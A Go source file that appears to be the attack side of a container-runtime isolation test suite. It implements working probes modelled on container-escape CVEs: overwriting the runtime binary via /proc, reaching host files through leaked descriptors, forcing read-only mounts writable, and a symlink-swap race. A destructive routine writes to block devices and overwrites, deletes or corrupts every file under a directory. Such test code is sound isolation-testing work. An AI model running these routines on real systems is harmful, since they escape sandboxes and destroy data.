package main

import (
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// overwriteProgram does to an executable what CVE-2019-5736 did to runc: holds the file of a process that runs it, and opens that again for writing when nothing runs it any
// more. It writes the file's own first byte: PATH, or "1" for the file of process 1.
func overwriteProgram(args []string) (string, error) {
	path := arg(args, 0, "")
	if path == "1" {
		return rewrite("/proc/1/exe")
	}
	cmd := exec.Command(path, "60")
	in, err := cmd.StdinPipe() // a runner waits for its first line
	if err != nil {
		return "", broken("%v", err)
	}
	defer in.Close()
	if err := cmd.Start(); err != nil {
		return "", broken("%v", err)
	}
	fd, err := programOf(cmd.Process.Pid)
	_ = cmd.Process.Kill() // so that the file is not busy
	_ = cmd.Wait()         // it was killed
	if err != nil {
		return "", err
	}
	return rewrite(fmt.Sprintf("/proc/self/fd/%d", fd))
}

// programOf holds the file of a child that has just begun, and may be this program itself for a moment yet.
func programOf(pid int) (fd int, err error) {
	own, err := os.Readlink("/proc/self/exe")
	if err != nil {
		return -1, broken("%v", err)
	}
	for range 1000 {
		fd, err = unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			return -1, err
		}
		if held, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd)); err != nil || held != own {
			return fd, nil //nolint:nilerr // a file without a name is another one
		}
		_ = unix.Close(fd) // nothing was written
		time.Sleep(time.Millisecond)
	}
	return -1, broken("the child does not begin")
}

// rewrite writes a file's first byte over itself.
func rewrite(path string) (string, error) {
	f, err := os.Open(path)
	if err != nil {
		return "", err
	}
	first := make([]byte, 1)
	_, err = io.ReadFull(f, first)
	_ = f.Close() // only read
	if err != nil {
		return "", err
	}
	w, err := os.OpenFile(path, os.O_WRONLY, 0)
	if err != nil {
		return "", err
	}
	defer w.Close()
	_, err = w.WriteAt(first, 0)
	return "wrote to " + path, err
}

// leakedFiles looks for directories outside through every descriptor, working directory and root that a process has, as CVE-2024-21626 did: DEPTH steps up and then PATH.
func leakedFiles(args []string) (string, error) {
	target := arg(args, 0, "")
	starts := []string{"/proc/self/root", "/proc/self/cwd", "/proc/1/root", "/proc/1/cwd"}
	for n := range 256 {
		starts = append(starts, "/proc/self/fd/"+strconv.Itoa(n), "/proc/1/fd/"+strconv.Itoa(n))
	}
	for _, start := range starts {
		if err := unix.Chdir(start); err == nil {
			for _, path := range []string{"." + target, strings.Repeat("../", 12) + target} {
				if data, err := os.ReadFile(path); err == nil {
					return fmt.Sprintf("from %s: %q", start, data), nil
				}
			}
		}
		if data, err := os.ReadFile(start + target); err == nil {
			return fmt.Sprintf("below %s: %q", start, data), nil
		}
	}
	return "", errors.New("no descriptor and no directory leads there")
}

// remount makes a read-only place writable in each way that there is, as CVE-2026-46695 did, with this process's rights and with those of a user namespace of its own, and then writes
// there: PLACE, FILE in it.
func remount(args []string) (string, error) {
	place, file := arg(args, 0, ""), arg(args, 1, "")
	if os.Getenv(insideNamespace) == "" {
		again := exec.Command("/proc/self/exe", "remount", place, file)
		again.Env = append(os.Environ(), insideNamespace+"=1")
		again.SysProcAttr = &syscall.SysProcAttr{
			Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWNS,
			UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}}, GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
		}
		if out, err := again.CombinedOutput(); err == nil {
			return "in a user namespace: " + string(out), nil
		}
	}
	dir, err := os.MkdirTemp("", "remount")
	if err != nil {
		return "", broken("%v", err)
	}
	ways := []struct {
		name string
		at   string
		try  func() (string, error)
	}{
		{"nothing", place, func() (string, error) { return "", nil }},
		{"remount", place, func() (string, error) { return call(unix.SYS_MOUNT, 0, text(place), 0, unix.MS_REMOUNT, 0) }},
		{"remount of the bind", place, func() (string, error) {
			return call(unix.SYS_MOUNT, 0, text(place), 0, unix.MS_REMOUNT|unix.MS_BIND, 0)
		}},
		{"mount_setattr", place, func() (string, error) {
			return call(unix.SYS_MOUNT_SETATTR, here, text(place), 0x8000, words(0, unix.MOUNT_ATTR_RDONLY, 0, 0), 32) // AT_RECURSIVE
		}},
		{"another mount", dir, func() (string, error) {
			return call(unix.SYS_MOUNT, text(place), text(dir), 0, unix.MS_BIND|unix.MS_REC, 0)
		}},
		{"remount of another mount", dir, func() (string, error) {
			return call(unix.SYS_MOUNT, 0, text(dir), 0, unix.MS_REMOUNT|unix.MS_BIND, 0)
		}},
		{"unmounting", place, func() (string, error) { return call(unix.SYS_UMOUNT2, text(place), unix.MNT_DETACH) }},
		{"an overlay's reconfiguration", place, func() (string, error) { return reconfigure(place) }},
	}
	var last error
	for _, w := range ways {
		_, did := w.try() // at the place itself writing tells whether it had an effect
		if w.at == dir && did != nil {
			last = did
			continue
		}
		for _, name := range []string{file, "made-by-attack"} {
			f, err := os.OpenFile(filepath.Join(w.at, name), os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644)
			if err == nil && w.name != "unmounting" {
				_, _ = f.WriteString("attacked\n") // opening was it
				_ = f.Close()
				return fmt.Sprintf("%s (%v): %s is writable", w.name, did, filepath.Join(w.at, name)), nil
			}
			if err != nil {
				last = err
			}
		}
	}
	return "", fmt.Errorf("eight ways, none makes it writable: %w", last)
}

// insideNamespace marks the second attempt.
const insideNamespace = "ATTACK_INSIDE_NAMESPACE"

// reconfigure asks for a writable file system by the newer calls.
func reconfigure(place string) (string, error) {
	fd, _, errno := unix.Syscall(unix.SYS_FSPICK, here, text(place), 0)
	if errno != 0 {
		return "", errno
	}
	const setFlag, doReconfigure = 0, 7 // fsconfig_command in linux/mount.h
	if _, _, errno := unix.Syscall6(unix.SYS_FSCONFIG, fd, setFlag, text("rw"), 0, 0, 0); errno != 0 {
		return "", errno
	}
	return call(unix.SYS_FSCONFIG, fd, doReconfigure, 0, 0, 0)
}

// spoilRoot changes everything below a directory in every way that a file system has, as CVE-2026-24834 did to the image behind it, and writes to every block device: DIR. It got
// through if a device took it; whether files outside changed, their owner sees.
func spoilRoot(args []string) (string, error) {
	devices, _ := filepath.Glob("/dev/*") // the pattern is a good one
	for _, name := range devices {
		var s unix.Stat_t
		if unix.Stat(name, &s) != nil || s.Mode&unix.S_IFMT != unix.S_IFBLK {
			continue
		}
		if f, err := os.OpenFile(name, os.O_WRONLY, 0); err == nil {
			_ = f.Close() // opening was it
			return "the device " + name, nil
		}
	}
	changed := 0
	err := filepath.Walk(arg(args, 0, "/"), func(path string, info os.FileInfo, err error) error {
		if err != nil || info.IsDir() || !info.Mode().IsRegular() {
			return nil //nolint:nilerr // what is gone already is changed
		}
		if spoil(path, changed%5) == nil {
			changed++
		}
		return nil
	})
	if err != nil || changed == 0 {
		return "", broken("nothing could be changed: %v", err)
	}
	return "", fmt.Errorf("%d files spoilt inside, and no block device", changed)
}

// spoil changes one file in one of five ways.
func spoil(path string, way int) error {
	switch way {
	case 0:
		return os.WriteFile(path, []byte("spoilt"), 0o600)
	case 1:
		return os.Remove(path)
	case 2:
		return os.Rename(path, path+".moved")
	case 3:
		return os.Chmod(path, 0o777)
	}
	f, err := os.OpenFile(path, os.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	info, err := f.Stat()
	if err != nil || info.Size() == 0 {
		return errors.New("empty")
	}
	b, err := unix.Mmap(int(f.Fd()), 0, int(info.Size()), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return err
	}
	b[0] ^= 0xff
	return errors.Join(unix.Msync(b, unix.MS_SYNC), unix.Munmap(b))
}

// swapPath puts a link in place of a directory and back, as fast as it can, until a file appears or a minute has passed: DIR TARGET STOP. It races who mounts there (CVE-2021-30465).
func swapPath(args []string) (string, error) {
	dir, target, stop := arg(args, 0, ""), arg(args, 1, ""), arg(args, 2, "")
	link := dir + ".link"
	if err := errors.Join(os.MkdirAll(dir, 0o755), os.Symlink(target, link)); err != nil {
		return "", broken("%v", err)
	}
	for n := range 1 << 30 {
		_, _, errno := unix.Syscall6(unix.SYS_RENAMEAT2, here, text(dir), here, text(link), unix.RENAME_EXCHANGE, 0)
		if errno != 0 && errno != unix.EBUSY {
			return "", broken("%v", errno)
		}
		if n%256 == 0 {
			if _, err := os.Lstat(stop); err == nil {
				return "", fmt.Errorf("changed places %d times", n)
			}
		}
	}
	return "", broken("nobody stopped it")
}

// hostileRoot looks around in a root that somebody hostile has made, whose links lead out (CVE-2025-31133, CVE-2025-52565, CVE-2025-52881): the kernel's files must be what
// they seem, and nowhere may a file of the host's lie: CANARY is text that such a file has, KERNEL is "host" or whose /proc it is instead.
func hostileRoot(args []string) (string, error) {
	canary := arg(args, 0, "")
	var fs unix.Statfs_t
	if err := unix.Statfs("/proc/self", &fs); err != nil || fs.Type != unix.PROC_SUPER_MAGIC {
		return fmt.Sprintf("/proc is no proc: %x, %v", fs.Type, err), nil
	}
	var null unix.Stat_t
	if err := unix.Lstat("/dev/null", &null); err != nil || null.Mode&unix.S_IFMT != unix.S_IFCHR || null.Rdev != unix.Mkdev(1, 3) {
		return fmt.Sprintf("/dev/null is none: %o %x, %v", null.Mode, null.Rdev, err), nil
	}
	for _, name := range []string{"/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/modprobe"} {
		if f, err := os.OpenFile(name, os.O_WRONLY, 0); err == nil && arg(args, 1, "host") == "host" {
			_ = f.Close() // opening was it
			return name + " can be written", nil
		}
	}
	for _, dir := range []string{"/etc", "/run", "/root", "/tmp", "/dev", "/sys", "/mnt", "/proc/1", "/proc/sys/kernel", "/var", "/usr"} {
		found := ""
		_ = filepath.Walk(dir, func(path string, _ os.FileInfo, _ error) error { // what cannot be read has no canary
			if info, err := os.Stat(path); err != nil || !info.Mode().IsRegular() { // through links, too
				return nil //nolint:nilerr // likewise
			}
			if data, err := os.ReadFile(path); err == nil && strings.Contains(string(data), canary) {
				found = path
			}
			return nil
		})
		if found != "" {
			return "a file of the host's is seen at " + found, nil
		}
	}
	return "", errors.New("everything is in order here")
}
